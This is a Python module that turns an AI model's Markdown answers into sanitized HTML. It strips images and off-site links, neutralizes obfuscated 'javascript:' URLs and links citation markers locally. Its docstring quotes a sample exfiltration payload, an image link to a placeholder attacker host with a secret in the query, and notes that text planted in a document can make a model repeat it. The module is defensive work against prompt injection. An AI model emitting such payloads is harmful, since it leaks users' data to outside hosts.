"""Answer rendering: a small, safe Markdown subset to HTML, sanitized by an allow-list.

A model's answer may repeat text planted in a document ("![](https://evil.example/?q=secret)"),
so links to other hosts and images never survive; citation markers [n] become local links.
"""

from __future__ import annotations

import html
import re
import xml.etree.ElementTree as etree
from urllib.parse import urlsplit

import markdown
import nh3
from markdown.extensions import Extension
from markdown.treeprocessors import Treeprocessor

ALLOWED_TAGS = {"p", "br", "ul", "ol", "li", "strong", "em", "code", "pre", "blockquote", "a"}
CITATION_CLASS = "cite"
_CITATION = re.compile(r"\[(\d{1,3}(?:\s*,\s*\d{1,3})*)\]")
# Browsers drop these from URLs before parsing, so "java\tscript:" is still javascript:.
_URL_NOISE = re.compile(r"[\x00-\x20\x7f-\x9f]")


def is_local_href(href: str | None) -> bool:
    """True for in-page and same-site relative links: no scheme, no host, no "//" or "\\" tricks."""
    if not href:
        return False
    # Entities first ("&#106;avascript:"), including Markdown's own stand-in for "&".
    cleaned = _URL_NOISE.sub("", html.unescape(href.replace(markdown.util.AMP_SUBSTITUTE, "&")))
    if not cleaned or "\\" in cleaned or cleaned.startswith("//"):
        return False
    try:
        parts = urlsplit(cleaned)
    except ValueError:
        return False
    return not parts.scheme and not parts.netloc and ":" not in cleaned.split("/", 1)[0]


class _SafeTree(Treeprocessor):
    """Unwraps links to anywhere but this site, removes images, links citation markers."""

    def __init__(self, md: markdown.Markdown, citation_urls: dict[int, str]):
        super().__init__(md)
        self.citation_urls = citation_urls

    def run(self, root: etree.Element) -> None:
        self._clean(root)
        if self.citation_urls:
            self._link_citations(root)

    def _clean(self, parent: etree.Element) -> None:
        index = 0
        while index < len(parent):
            child = parent[index]
            self._clean(child)
            if child.tag == "img":
                _replace(parent, index, [], child.tail)
                continue
            if child.tag == "a" and not is_local_href(child.get("href")):
                _replace(parent, index, list(child), child.tail, child.text)
                continue
            index += 1

    def _link_citations(self, element: etree.Element) -> None:
        if element.tag in {"code", "pre", "a"}:
            return  # markers in code are code; a link cannot hold another link
        for child in list(element):
            self._link_citations(child)
        # The element's own text, then the tail of each child (text after it, inside element).
        pieces = self._split(element.text)
        if pieces is not None:
            element.text, nodes = pieces
            for offset, node in enumerate(nodes):
                element.insert(offset, node)
        for child in list(element):
            pieces = self._split(child.tail)
            if pieces is None:
                continue
            child.tail, nodes = pieces
            position = list(element).index(child) + 1
            for offset, node in enumerate(nodes):
                element.insert(position + offset, node)

    def _split(self, text: str | None) -> tuple[str, list[etree.Element]] | None:
        """`text` cut at citation markers: the leading text and the link nodes (with tails)."""
        if not text or isinstance(text, markdown.util.AtomicString):
            return None
        segments: list[str | etree.Element] = []
        position = 0
        for match in _CITATION.finditer(text):
            numbers = [int(n) for n in re.split(r"\s*,\s*", match.group(1))]
            if not any(n in self.citation_urls for n in numbers):
                continue
            segments.append(text[position : match.start()])
            if len(numbers) == 1:
                segments.append(self._link(numbers[0], f"[{numbers[0]}]"))
            else:  # "[1, 3]": a link per known number; brackets and commas stay text
                segments.append("[")
                for i, number in enumerate(numbers):
                    if i:
                        segments.append(", ")
                    known = number in self.citation_urls
                    segments.append(self._link(number, str(number)) if known else str(number))
                segments.append("]")
            position = match.end()
        if not segments:
            return None
        segments.append(text[position:])
        lead, nodes = "", []
        for segment in segments:
            if isinstance(segment, str):
                if nodes:
                    nodes[-1].tail = (nodes[-1].tail or "") + segment
                else:
                    lead += segment
            else:
                nodes.append(segment)
        return lead, nodes

    def _link(self, number: int, label: str) -> etree.Element:
        link = etree.Element("a", {"href": self.citation_urls[number], "class": CITATION_CLASS})
        link.text = label
        return link


def _replace(
    parent: etree.Element,
    index: int,
    children: list[etree.Element],
    tail: str | None,
    text: str | None = None,
) -> None:
    """Put `text`, `children` and `tail` where parent[index] was."""
    del parent[index]
    inserted = [text or "", *children, tail or ""]
    # Strings join the text before them: the previous sibling's tail, or the parent's text.
    previous = parent[index - 1] if index > 0 else None
    for item in inserted:
        if isinstance(item, str):
            if not item:
                continue
            if previous is None:
                parent.text = (parent.text or "") + item
            else:
                previous.tail = (previous.tail or "") + item
        else:
            parent.insert(index, item)
            index += 1
            previous = item


class _SafeMarkdown(Extension):
    def __init__(self, citation_urls: dict[int, str]):
        super().__init__()
        self.citation_urls = citation_urls

    def extendMarkdown(self, md: markdown.Markdown) -> None:  # noqa: N802  (Markdown's API)
        # Raw HTML in the answer is shown as text, never interpreted.
        md.preprocessors.deregister("html_block")
        md.inlinePatterns.deregister("html")
        md.inlinePatterns.deregister("automail")  # mailto: links are never wanted in answers
        # After inline parsing (20) has made the links and images, before prettify (10).
        md.treeprocessors.register(_SafeTree(md, self.citation_urls), "safe_tree", 15)


def _filter_attribute(tag: str, attribute: str, value: str) -> str | None:
    if tag == "a" and attribute == "href":
        return value if is_local_href(value) else None
    return value


def render_answer_html(text: str, citation_urls: dict[int, str] | None = None) -> str:
    """Safe HTML for an answer: paragraphs, lists, bold, italics, inline code and code blocks.

    Links survive only when they stay on this site; images never do; raw HTML is shown as text.
    `citation_urls` maps citation numbers to local URLs: each [n] becomes a link with class
    "cite" (a marker without a URL, or any URL that is not local, stays plain text).
    """
    urls = {int(n): url for n, url in (citation_urls or {}).items() if is_local_href(url)}
    renderer = markdown.Markdown(
        extensions=["fenced_code", "sane_lists", _SafeMarkdown(urls)], output_format="html"
    )
    rendered = renderer.convert(text or "")
    return nh3.clean(
        rendered,
        tags=ALLOWED_TAGS,
        clean_content_tags={"script", "style"},
        attributes={"a": {"href"}},
        allowed_classes={"a": {CITATION_CLASS}},
        attribute_filter=_filter_attribute,
        url_schemes=set(),
        link_rel="noopener noreferrer",
        strip_comments=True,
    )
